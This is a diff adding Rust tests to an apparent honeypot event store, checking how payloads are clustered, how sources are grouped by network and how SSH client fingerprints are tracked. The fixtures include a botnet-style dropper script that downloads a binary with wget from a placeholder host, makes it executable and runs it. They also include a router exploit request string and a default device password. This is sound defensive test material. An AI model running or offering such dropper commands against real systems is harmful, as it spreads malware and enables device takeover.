@@ -215,3 +215,98 @@ fn a_closed_bin_holds_its_keys_live_and_when_read_again_and_of_a_flood_those_wit
     let evidence = store.reader().unwrap().evidence(Some(&key), Span::default()).unwrap();
     assert_eq!((evidence.events_read, evidence.passwords), (3, vec![("xmhdipc".to_owned(), 3)]));
 }
+
+fn sent(number: u64, source: u32, content: &[u8]) -> Event {
+    let mut sha256 = [0_u8; 32];
+    for (at, byte) in content.iter().enumerate() {
+        sha256[at % 32] = sha256[at % 32].wrapping_mul(31).wrapping_add(*byte);
+    }
+    let payload = Payload {
+        sha256: PayloadHash(sha256),
+        size: None,
+        content: content.to_vec(),
+        origin: PayloadOrigin::Sent,
+        name: None,
+        url: None,
+    };
+    event(number, midnight(), source, 8080, Detail::Payload(Box::new(payload)))
+}
+
+#[test]
+fn contents_that_change_with_each_visit_are_one_cluster_also_when_the_store_is_opened_again() {
+    let folder = Folder::new();
+    let end = midnight().plus(Timestamp::DAY);
+    let script = |n: u32| {
+        format!(
+            "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt || cd /root;\nwget http://198.51.100.{n}/bins/look-alike-{n:04x}; \
+             chmod 777 look-alike-{n:04x}; ./look-alike-{n:04x} telnet; rm -rf look-alike-{n:04x}\n"
+        )
+    };
+    let write = |events: Vec<Event>| {
+        let store = live(&folder, end);
+        store.write(events).unwrap();
+        store.flush().unwrap();
+        store
+    };
+    drop(write((0..5).map(|n| sent(u64::from(n), n, script(n).as_bytes())).collect()));
+    let other = b"GET /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1 and more".to_vec();
+    let mut events: Vec<Event> =
+        (5..9).map(|n| sent(u64::from(n), n, script(n).as_bytes())).collect();
+    events.extend((0..2).map(|n| sent(100 + n, 50, &other)));
+    events.push(sent(200, 51, b"short"));
+    let store = write(events);
+    let reader = store.reader().unwrap();
+    let top = reader.top(KeyKind::PayloadCluster, Span::default(), 10).unwrap();
+    let counts: Vec<(u64, u64)> = top.iter().map(|row| (row.events, row.sources)).collect();
+    assert_eq!(counts, [(9, 9), (2, 1)]);
+    assert_eq!(reader.top(KeyKind::Payload, Span::default(), 20).unwrap().len(), 11);
+    let evidence = reader.evidence(Some(&top[0].key), Span::default()).unwrap();
+    assert_eq!((evidence.events_read, evidence.sources.len()), (9, 9));
+    let closed = store.close_bins(end).unwrap();
+    let rows = closed[0].keys.iter().filter(|row| row.key.kind == KeyKind::PayloadCluster);
+    assert_eq!(rows.map(|row| row.sources.len()).collect::<Vec<_>>(), [9, 1]);
+}
+
+#[test]
+fn visitors_of_one_network_are_counted_together_and_shown_apart() {
+    let folder = Folder::new();
+    let store = live(&folder, midnight().plus(Timestamp::DAY));
+    let mut events: Vec<Event> =
+        (0..4).map(|n| event(n, midnight(), n as u32, 22, login("root", "a"))).collect();
+    for (number, address) in [(10, "2001:db8:7::1"), (11, "2001:db8:8::1"), (12, "2001:db9::1")] {
+        let source = address.parse().unwrap();
+        events.push(Event { source, ..event(number, midnight(), 0, 22, Detail::Connect) });
+    }
+    store.write(events).unwrap();
+    store.flush().unwrap();
+    let reader = store.reader().unwrap();
+    let top = reader.top(KeyKind::Network, Span::default(), 10).unwrap();
+    let texts: Vec<(&str, u64)> = top.iter().map(|row| (&*row.key.text, row.sources)).collect();
+    assert_eq!(texts, [("198.18.0.0/16", 4), ("2001:db8::/32", 2), ("2001:db9::/32", 1)]);
+    for (row, sources) in top.iter().zip([4, 2, 1]) {
+        let evidence = reader.evidence(Some(&row.key), Span::default()).unwrap();
+        assert_eq!((evidence.sources.len(), evidence.events_read), (sources, sources as u64));
+    }
+}
+
+#[test]
+fn a_fingerprint_of_software_is_watched_as_its_name_is() {
+    let folder = Folder::new();
+    let store = live(&folder, midnight().plus(Timestamp::HOUR));
+    let hello = |n: u32| {
+        let detail = Detail::Client {
+            version: Some("SSH-2.0-Go".into()),
+            fingerprint: Some("hassh:0a07365cc01fa9fc82608ba4019af499".into()),
+        };
+        event(u64::from(n), midnight(), n, 22, detail)
+    };
+    store.write((0..3).map(hello).collect()).unwrap();
+    store.flush().unwrap();
+    let closed = store.close_bins(midnight().plus(Timestamp::HOUR)).unwrap();
+    for kind in [KeyKind::Fingerprint, KeyKind::Client] {
+        let row = closed[0].keys.iter().find(|row| row.key.kind == kind).unwrap();
+        assert_eq!(row.sources.len(), 3);
+    }
+    let top = store.reader().unwrap().top(KeyKind::Fingerprint, Span::default(), 5).unwrap();
+    assert_eq!((&*top[0].key.text, top[0].sources), ("hassh:0a07365cc01fa9fc82608ba4019af499", 3));
+}
